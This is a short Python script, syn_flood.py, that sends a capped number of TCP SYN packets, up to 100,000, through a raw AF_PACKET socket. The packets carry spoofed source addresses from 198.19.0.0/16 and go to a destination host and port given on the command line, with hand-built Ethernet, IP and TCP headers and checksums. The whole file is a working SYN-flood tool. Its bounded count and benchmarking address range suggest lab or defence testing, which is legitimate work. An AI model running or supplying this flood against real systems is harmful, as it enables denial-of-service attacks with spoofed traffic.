"""Sends COUNT spoofed TCP SYNs out of IFNAME with AF_PACKET (bounded count,
no pacing), from 198.19.0.0/16 sources to DST:PORT, next hop MAC DSTMAC.

  syn_flood.py IFNAME DSTMAC DST PORT COUNT
"""
import random
import socket
import struct
import sys


def csum(b):
    if len(b) % 2:
        b += b'\0'
    s = sum(struct.unpack('!%dH' % (len(b) // 2), b))
    while s >> 16:
        s = (s & 0xffff) + (s >> 16)
    return (~s) & 0xffff


def main():
    ifname, dstmac, dst, port, count = sys.argv[1:6]
    port, count = int(port), min(int(count), 100000)
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((ifname, 0))
    srcmac = open('/sys/class/net/%s/address' % ifname).read().strip()
    eth = bytes.fromhex(dstmac.replace(':', '')) + bytes.fromhex(srcmac.replace(':', '')) + b'\x08\x00'
    d = socket.inet_aton(dst)
    rnd = random.Random(1)
    for i in range(count):
        src = socket.inet_aton('198.19.%d.%d' % ((i >> 8) & 0xff, i & 0xff))
        sport = 1024 + rnd.randrange(60000)
        opts = struct.pack('!BBH', 2, 4, 1460)
        tcp = struct.pack('!HHIIBBHHH', sport, port, rnd.getrandbits(32), 0, 6 << 4, 0x02,
                          64240, 0, 0) + opts
        tcp = tcp[:16] + struct.pack('!H', csum(src + d + struct.pack('!BBH', 0, 6, len(tcp)) + tcp)) + tcp[18:]
        ip = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + len(tcp), i & 0xffff, 0x4000, 64, 6, 0, src, d)
        ip = ip[:10] + struct.pack('!H', csum(ip)) + ip[12:]
        s.send(eth + ip + tcp)
    print('sent %d SYNs' % count)


if __name__ == '__main__':
    main()
